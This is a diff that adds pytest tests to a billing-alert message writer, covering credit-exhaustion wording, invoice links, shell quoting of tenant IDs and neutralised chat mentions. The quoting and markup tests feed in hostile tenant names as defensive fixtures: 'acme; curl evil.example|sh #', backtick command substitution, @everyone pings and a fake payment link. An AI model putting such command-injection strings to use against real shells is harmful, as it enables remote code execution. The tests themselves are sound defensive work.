@@ -1,6 +1,9 @@
 """What a message says: one alert in full, many in one digest."""
 
 import random
+import re
+import subprocess
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -135,6 +138,83 @@ def test_a_link_goes_beside_its_upgrade_where_it_is_given_and_nowhere_else() -> 
     assert WRITER.write(many, links={("acme", "upg_1"): LINK}).body.count(LINK) == 1
     assert "Pay here" not in WRITER.write([started]).body
     assert wanting_links([started, resolved("acme", STARTED, INFO, since=AT)]) == []
+
+
+def test_what_is_the_case_for_some_tenants_only_is_told_of_apart() -> None:
+    pool: dict[str, Any] = {"pool": "api", "remaining": 0, "limit": 100, "used_percent": 100}
+    hard = raised("acme", AlertKind.CREDITS_EXHAUSTED, CRITICAL, hard=True, **pool)
+    soft = raised("globex", AlertKind.CREDITS_EXHAUSTED, WARNING, hard=False, **pool)
+    body = WRITER.write([soft, hard]).body
+    first, second, _ = body.split("\n\n")
+    assert first.startswith("CRITICAL: credits are used up\n- acme: ")
+    assert "it blocks at zero" in first
+    assert second.startswith("WARNING: credits are used up\n- globex: ")
+    assert "does not block at zero" in second
+    assert "it does" not in body
+    assert "HARD" not in body
+
+
+def test_an_upgrade_paid_by_invoice_is_promised_no_link() -> None:
+    about: dict[str, Any] = {"upgrade": "upg_1", "size": 13, "from_capacity": 10, "used": 11}
+    invoiced = WRITER.write([raised("acme", STARTED, INFO, invoiced=True, **about)]).body
+    assert "by an invoice" in invoiced
+    assert "link" not in invoiced.replace("Dashboard", "")
+    checkout = WRITER.write([raised("acme", STARTED, INFO, invoiced=False, **about)]).body
+    assert "`seats status acme --show-links` prints it" in checkout
+    assert "invoice" not in checkout
+
+
+@pytest.mark.parametrize(
+    "tenant",
+    [
+        "workspace/1",
+        "acme; curl evil.example|sh #",
+        "it's $HOME `id` \\ !!",
+        "@everyone",
+        "a@everyone @here <!channel> <@123>",
+        "x" * 255,
+        "é" * 255,
+        "user@example.com",
+        "right\u202eleft",
+        "[pay](https://evil.example) *now*",
+    ],
+)
+def test_a_command_holds_the_whole_id_of_a_tenant_as_one_word_of_a_shell(tenant: str) -> None:
+    """Asked of a real shell."""
+    body = WRITER.write([raised(tenant)]).body
+    found = re.search(r"`seats why (.*?)`\. To keep", body)
+    assert found is not None
+    shell = subprocess.run(["bash", "-c", f"printf %s {found[1]}"], capture_output=True, check=True)
+    assert shell.stdout.decode() == tenant
+
+
+def test_what_a_tenant_is_called_mentions_nobody_and_is_no_markup() -> None:
+    names = [
+        "@everyone",
+        "a@here",
+        "<!channel>",
+        "<@123456>",
+        "[pay](https://evil.example)",
+        "*b* `c` ~d~",
+        "_e_",
+        "# f",
+    ]
+    for alerts in ([raised(name)] for name in names):
+        for written in (WRITER.write(alerts), Writer(TEXTS, Places(None)).write(alerts)):
+            text = f"{written.title}\n{written.body}".replace(Places("https://seats.example").of(alerts[0]), "")
+            assert not re.search(r"@(everyone|here|channel)|<[!@#]", text), text
+            outside_code = re.sub(r"`[^`\n]*`", "", text)
+            assert not re.search(r"\]\(|[*~`]|_e_|https://evil|: # ", outside_code), outside_code
+    many = WRITER.write([raised(name) for name in names])
+    assert not re.search(r"@(everyone|here|channel)|<[!@#]", f"{many.title}\n{many.body}")
+    assert "- @\u200beveryone: 8 of 10" in many.body
+    said = WRITER.write([raised("acme", AlertKind.CROVVER_UNREACHABLE, reason="ask @here", from_at=AT)]).body
+    assert "ask @\u200bhere" in said
+
+
+def test_a_plain_name_is_shown_as_it_is() -> None:
+    for name in ("tenant_0", "acme-1.eu", "Acme & Söhne GmbH", "日本", "42", "a:b/c"):
+        assert WRITER.write([raised(name)]).title == f"Warning: {name}: seats nearly used up"
 
 
 def test_what_could_not_be_told_is_said() -> None:
